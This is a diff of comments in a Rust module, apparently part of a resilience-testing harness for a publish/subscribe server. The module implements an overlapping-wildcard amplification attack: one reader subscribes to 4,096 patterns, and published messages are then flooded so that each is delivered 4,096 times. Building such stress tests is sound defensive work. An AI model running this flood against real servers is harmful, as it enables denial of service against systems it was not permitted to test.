@@ -1,5 +1,6 @@
-//! Overlapping wildcards: one reader has all patterns that cover a subject of 12 tokens, so each message
-//! published to it becomes 4,096 deliveries. The reader reads as fast as it can.
+//! The attack by overlapping wildcards: one reader subscribes to all 4,096 patterns that cover a subject of
+//! 12 tokens, so the server delivers each message published to the subject 4,096 times. The reader reads as
+//! fast as it can.
 
 use std::io::Read as _;
 use std::net::{Shutdown, SocketAddr};
@@ -11,7 +12,8 @@ use super::{Deeds, Job, Strike, monitor, subscriptions};
 use crate::wire::Wire;
 
 const TOKENS: u32 = 12;
-/// The number of subscriptions below which a server has forgotten those of a client that left.
+/// The number of subscriptions below which the attacker knows that the server has removed the subscriptions
+/// of a client that left.
 const FEW: u64 = 300;
 const LOOK: Duration = Duration::from_millis(10);
 
@@ -39,8 +41,8 @@ pub(super) fn prepare(job: &Job, after: u64, until: Instant) -> anyhow::Result<S
     }))
 }
 
-/// Waits until the server has removed the subscriptions of the client that left; returns the number of those
-/// that the server still has.
+/// Waits, at most until `until`, for the server to remove the subscriptions of the client that left. Returns
+/// the number of subscriptions that the server still has then; `None` if it has removed them.
 fn still_there(http: SocketAddr, until: Instant) -> anyhow::Result<Option<u64>> {
     loop {
         let subscriptions = monitor::subscriptions_now(http, until)?;
@@ -54,7 +56,8 @@ fn still_there(http: SocketAddr, until: Instant) -> anyhow::Result<Option<u64>> 
     }
 }
 
-/// Returns the pattern of this number: each set bit of it makes a token a wildcard.
+/// Returns the subject pattern for this number: the token at place i is a wildcard if bit i of the number is
+/// set.
 fn pattern(number: u32) -> String {
     let token = |bit| if number >> bit & 1 == 1 { "*" } else { "a" };
     let tokens: Vec<_> = (0..TOKENS).map(token).collect();
@@ -87,14 +90,15 @@ fn strike(
     let message = format!("PUB {} 2\r\nxx\r\n", pattern(0));
     let start = Instant::now();
     let sent = publisher.write(message.repeat(messages as usize).as_bytes());
-    // A delivery has two lines; the few lines of the protocol beside them do not matter.
+    // The reader counts lines, of which each delivery has two. The few other lines of the protocol do not
+    // matter.
     let delivered = || lines.load(Ordering::Relaxed) / 2;
     while delivered() < wanted && Instant::now() < until && !reading.is_finished() {
         std::thread::sleep(LOOK);
     }
     let lasted = start.elapsed().as_secs_f64();
     let cut_off = reading.is_finished();
-    // The reader may have left already.
+    // If the server has disconnected the reader already, the shutdown fails, and nothing is left to do.
     let _ = reader.stream.shutdown(Shutdown::Both);
     let _ = reading.join();
     let deeds = Deeds::default()
